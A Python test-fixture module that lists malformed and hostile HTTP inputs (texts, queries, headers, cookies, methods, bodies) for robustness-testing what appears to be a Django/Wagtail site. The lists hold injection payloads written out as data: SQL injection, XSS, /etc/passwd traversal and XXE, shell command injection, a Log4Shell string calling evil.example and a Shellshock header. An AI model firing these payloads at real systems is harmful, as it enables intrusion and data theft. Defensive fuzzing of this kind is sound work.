"""What nobody types by mistake: texts, shapes of queries, headers, cookies, bodies.

Everything is in the form in which a server hands it on: percent-encoded in addresses, and
bytes as Latin-1 in headers.
"""

# ruff: noqa: E501

from urllib.parse import quote, quote_from_bytes

# As bytes, because some of them are no text.
TEXTS = [
    text.encode() if isinstance(text, str) else text
    for text in (
        # Nothing, NUL, control characters, spaces that look like none.
        "", " ", "\0", "a\0b", "\0" * 100, "\r\n", "a\r\nSet-Cookie: x=1", "\t", "\x1b[31m",
        "\x7f", "\x85", "\u2028\u2029", "\u200b\u200c\u200d\ufeff", "\u00a0", "\u3000",
        # Bytes that are no UTF-8: surrogates, overlong, cut off, another encoding.
        b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xed\xa0\xbd\xed\xb8\x80", b"\xc0\xaf",
        b"\xe0\x80\xaf", b"\xff\xfe", b"\xe8\xb4", b"\xf5\x80\x80\x80", "财务".encode("gbk"),
        "财务".encode("utf-16"), "財務".encode("big5"),
        # Directions, combining marks, rare and private characters.
        "\u202e财务\u202c", "\u2066abc\u2069", "Z\u0351\u036b\u0343\u036a" * 20, "👨‍👩‍👧‍👦🏴‍☠️",
        "𠮷𡈽䶮㙍", "\ue000\U000f0000\U0010ffff", "\ufffe\uffff", "ﷺ" * 50, "İıſK", "ß",
        # Full-text syntax of the engines.
        '"', '""', '"a', "a\"b'c", "*", "a*", "-a", "a -b", "a AND", "NOT", "OR OR", "NEAR(a b, 5)",
        "title:a", "{title body}:a", "^a", "a + b", "(((", ")", "a:*b", "!a", "a & | b", "<->", "\\",
        # SQL, and what frameworks take for look-ups.
        "' OR 1=1--", "1; DROP TABLE disclosure_affairspage", "') UNION SELECT 1,2--", "%", "_", "%%s",
        "%(key)s", "{0}", "{self.__class__}", "{{ 7*7 }}", "{% debug %}", "${7*7}", "#{7*7}",
        "__proto__", "community__code", "pk__in", "null", "None", "undefined", "true", "[]", "{}",
        # Numbers.
        "0", "-1", "１２３", "٣", "1e309", "NaN", "Infinity", "-0", "0x1F", "1_000", "1.5", "١",
        "2147483648", "9223372036854775808", "9" * 400, "-" + "9" * 30, "00000000000000000001", "²", "Ⅷ",
        # Dates.
        "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-W01-1", "now",
        # Paths and addresses.
        "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//", "/etc/passwd", "C:\\boot.ini",
        "file:///etc/passwd", "//evil.example/", "http://evil.example/", "javascript:alert(1)", "\\\\evil\\x",
        "data:text/html,<script>1</script>", "http://[::1", "http://127.0.0.1:99999/", ".", "..", "./.", "~",
        # Markup.
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=1>", "&lt;&#0;&#x110000;",
        "<!--", "]]>", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        # Long.
        "a" * 201, "财" * 300, "a" * 3000, "%" * 500, "\ufdfd" * 400,
        # Things of a shell, of logs, of spreadsheets.
        "$(id)", "`id`", "; id", "| id", "${jndi:ldap://evil.example/a}", "=1+1", "@SUM(1)", "+1", "-1+1",
    )
]  # fmt: skip

ENCODED = [quote_from_bytes(text, safe="") for text in TEXTS]

QUERIES = [
    "?", "&", "&&&", "=", "==", "=&=", "a", "a=", "=a", "a&b&c", "%", "%0", "%zz", "%u0041", "%00=%00", "+", ";",
    "a;b=c", "limit[]=1", "limit[$gt]=1", "limit=1&limit=2", "page=1&page=2", "q=1&q=2", "q[0][1][2]=x",
    "a." * 300, "&" * 999, "a=1&" * 900, "a=1&" * 1500, "[" * 400, "%5B" * 400, "x=" + "a" * 60_000,
    "q=" + quote("财" * 2000), "mode=elder&mode=dark", "theme=%00", "lang=../../", "mode[]=elder", "next=//evil.example/",
    "utm_source=chat&from=singlemessage&isappinstalled=0", "tab=money&tab=JUWU", "year=99999999999999999999999999",
    "page=0", "page=-1", "page=1e9", "page=" + "9" * 300, "cursor=" + "A" * 2000, "cursor=a:b:c", "cursor=%00:%00",
    "fields=*", "format=xml", "callback=alert", "_method=DELETE", "preview=1", "edit=1", "debug=1",
]  # fmt: skip

HEADERS = [
    *(("HTTP_ACCEPT", value) for value in (
        "", "*/*;q=abc", "text/html;q=9999", "application/xml", "image/webp,*/*" * 200, "\xff\xfe", ";;;", "a/b/c",
        "text/html;version=", "*" * 3000,
    )),
    *(("HTTP_ACCEPT_LANGUAGE", value) for value in (
        "xx-YY", "zh_Hant-HK-" + "x" * 400, ";q=", "*", "en;q=abc", "-" * 500, "\xe4\xb8\xad", "a" * 10_000,
    )),
    *(("HTTP_ACCEPT_ENCODING", value) for value in ("", "br;q=x", "*;q=0", "gzip, gzip, gzip" * 100)),
    *(("HTTP_IF_NONE_MATCH", value) for value in (
        "", "*", '"', 'W/"', 'W/W/"a"', '"a" "b"', '"' + "a" * 5000 + '"', "a,b,c", '"\xff"', '",' * 2000, "W/",
    )),
    *(("HTTP_IF_MATCH", value) for value in ("", "*", '"a"', "garbage")),
    *(("HTTP_IF_MODIFIED_SINCE", value) for value in (
        "", "yesterday", "Thu, 32 Foo 99999 99:99:99 GMT", "Mon, 01 Jan 0001 00:00:00 GMT", "0", "-1", "\xff",
        "Thu, 01 Jan 1970 00:00:00 GMT; length=" + "9" * 400,
    )),
    ("HTTP_IF_UNMODIFIED_SINCE", "Mon, 01 Jan 0001 00:00:00 GMT"),
    *(("HTTP_RANGE", value) for value in (
        "", "bytes=", "bytes=-", "bytes=0-" + "9" * 400, "bytes=5-1", "bytes=" + "0-1," * 1000, "lines=1-2",
        "bytes=-0", "bytes=\xb2-3", "bytes=--1",
    )),
    *(("CONTENT_TYPE", value) for value in (
        "", "application/json", "multipart/form-data", "multipart/form-data; boundary=", "text/plain; charset=nonsense",
        "multipart/form-data; boundary=" + "a" * 3000, "application/x-www-form-urlencoded; charset=utf-7", "\xff/\xff",
        "application/json; charset=\x80",
    )),
    *(("CONTENT_LENGTH", value) for value in ("", "-1", "abc", "9" * 300, "0x10", "１")),
    *(("HTTP_REFERER", value) for value in ("", "://", "http://[", "javascript:1", "\xff" * 50, "a" * 9000)),
    *(("HTTP_ORIGIN", value) for value in ("null", "", "://", "http://[::1", "https://evil.example")),
    *(("HTTP_X_FORWARDED_FOR", value) for value in ("", ",,,", "1.2.3.4" * 400, "unknown", "::ffff:1.2.3.4", "\xff")),
    *(("HTTP_X_FORWARDED_PROTO", value) for value in ("", "javascript", "https,http")),
    *(("REMOTE_ADDR", value) for value in ("", "unix:", "::1", "fe80::1%eth0", "999.1.1.1")),
    ("HTTP_X_FORWARDED_HOST", "evil.example"),
    ("HTTP_X_HTTP_METHOD_OVERRIDE", "DELETE"),
    ("HTTP_X_REQUESTED_WITH", "XMLHttpRequest"),
    ("HTTP_HX_REQUEST", "true"),
    ("HTTP_AUTHORIZATION", "Basic " + "A" * 999),
    ("HTTP_AUTHORIZATION", "Bearer wagtail_\xff"),
    ("HTTP_AUTHORIZATION", "Digest"),
    ("HTTP_USER_AGENT", ""),
    ("HTTP_USER_AGENT", "() { :; }; id" + "\xff" * 3000),
    ("HTTP_EXPECT", "100-continue"),
    ("HTTP_UPGRADE", "h2c"),
    ("HTTP_TRANSFER_ENCODING", "chunked"),
    ("HTTP_COOKIE2", "$Version=1"),
    ("HTTP_X_REQUEST_ID", "\xff{}\\n" * 200),
    ("HTTP_PROXY", "http://evil.example"),
]  # fmt: skip

COOKIES = [
    "", ";", ";;;=;;", "=", "a", "sessionid", "sessionid=", "sessionid=%00", "sessionid=' OR 1=1--", "sessionid=\xff\xfe",
    "sessionid=" + "a" * 4000, "sessionid=../../etc/passwd", 'sessionid="', "sessionid=a; sessionid=b", "csrftoken=",
    "csrftoken=\xff", "csrftoken=" + "a" * 4000, "csrftoken=a" * 500, "mode=", "mode=%00", "mode=elder; theme=dark; lang=hant",
    "mode=\xe9\x95\xbf", "theme=" + "x" * 4000, "lang='; DROP", "messages=garbage", 'messages="a:b:c"',
    "messages=W1siX19qc29uX21lc3NhZ2UiLDAsMjUsIngiXV0:1:2", "django_language=../..", "$Version=1; $Path=/",
    "__Host-x=1; a\tb=c", "Expires=0; Path=/; HttpOnly", "a=b" * 900, "\x80=\x81", 'x="\\377\\000"', "mode={}; theme=[]",
]  # fmt: skip

METHODS = [
    "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "LOCK", "get", "G\xcbT", "X" * 300,
    "", "-", "GET ", "PRI",
]  # fmt: skip

BODIES = [
    ("application/json", b"{"), ("application/json", b"[" * 5000), ("application/json", b"\xff\xfe"), ("application/json", b"null"),
    ("application/json", b'{"a":' * 2000), ("application/json", b"9" * 5000), ("application/xml", b"<a>"),
    ("application/x-www-form-urlencoded", b"\xff=\xfe&%00=%00"), ("application/x-www-form-urlencoded", b"a=1&" * 1500),
    ("application/x-www-form-urlencoded", b"csrfmiddlewaretoken=%00"), ("application/x-www-form-urlencoded; charset=utf-16", b"a=b"),
    ("application/x-www-form-urlencoded; charset=nonsense", b"a=b"),
    ("multipart/form-data; boundary=x", b"--x"), ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data\r\n\r\n"),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="a\0b"\r\n\r\n\0\r\n--x--'),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="f"; filename="../../x"\r\n\r\nx\r\n--x--'),
    ("multipart/form-data; boundary=x",
     b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n--x--'),
    ("multipart/form-data; boundary=\xff", b"x"), ("text/plain", b"a" * 100_000), ("", b"\0" * 1000),
]  # fmt: skip


def queries(parameters):
    """Query strings that put every text into every parameter at once."""
    yield from QUERIES
    for encoded in ENCODED:
        yield "&".join(f"{name}={encoded}" for name in parameters)


def names_and_values(parameters):
    """Query strings with every text in each parameter alone, and as a parameter's name."""
    for encoded in ENCODED:
        yield f"{encoded}=1"
        for name in parameters:
            yield f"{name}={encoded}"


def environments(parameters):
    """All of the above as what changes in the environment of a plain GET."""
    for query in queries(parameters):
        yield {"QUERY_STRING": query}
    for name, value in HEADERS:
        yield {name: value}
    for cookie in COOKIES:
        yield {"HTTP_COOKIE": cookie}
    for method in METHODS:
        yield {"REQUEST_METHOD": method}
    for kind, body in BODIES:
        yield {"REQUEST_METHOD": "POST", "CONTENT_TYPE": kind, "body": body}
